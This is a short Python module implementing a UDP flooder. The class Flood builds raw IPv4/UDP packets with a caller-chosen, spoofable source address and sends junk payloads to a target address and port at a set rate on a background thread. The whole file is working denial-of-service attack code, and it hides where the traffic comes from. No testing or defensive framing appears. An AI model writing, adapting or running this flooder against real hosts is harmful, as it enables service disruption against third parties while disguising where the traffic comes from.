"""Junk by the hundred, from whatever address."""

import socket
import threading

import packets


class Flood:
    """Sends datagrams to an address and port, so many a second, until it is left; each has what `junk`
    makes. The source may be anybody's."""

    def __init__(self, sender, source, destination, junk, per_second):
        self.sender, self.source, self.destination = sender, source, destination
        self.junk, self.per_second = junk, per_second
        self.sent, self._end = 0, threading.Event()

    def send(self, count):
        (source, sport), (destination, dport) = self.source, self.destination
        with self.sender.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            for _ in range(count):
                datagram = packets.udp(source, sport, destination, dport, self.junk())
                packet = packets.ipv4(source, destination, packets.UDP, datagram)
                raw.sendto(packet, (destination, 0))
        self.sent += count

    def _run(self):
        each = 10
        while not self._end.wait(each / self.per_second):
            self.send(each)

    def __enter__(self):
        self._thread = threading.Thread(target=self._run)
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._end.set()
        self._thread.join()
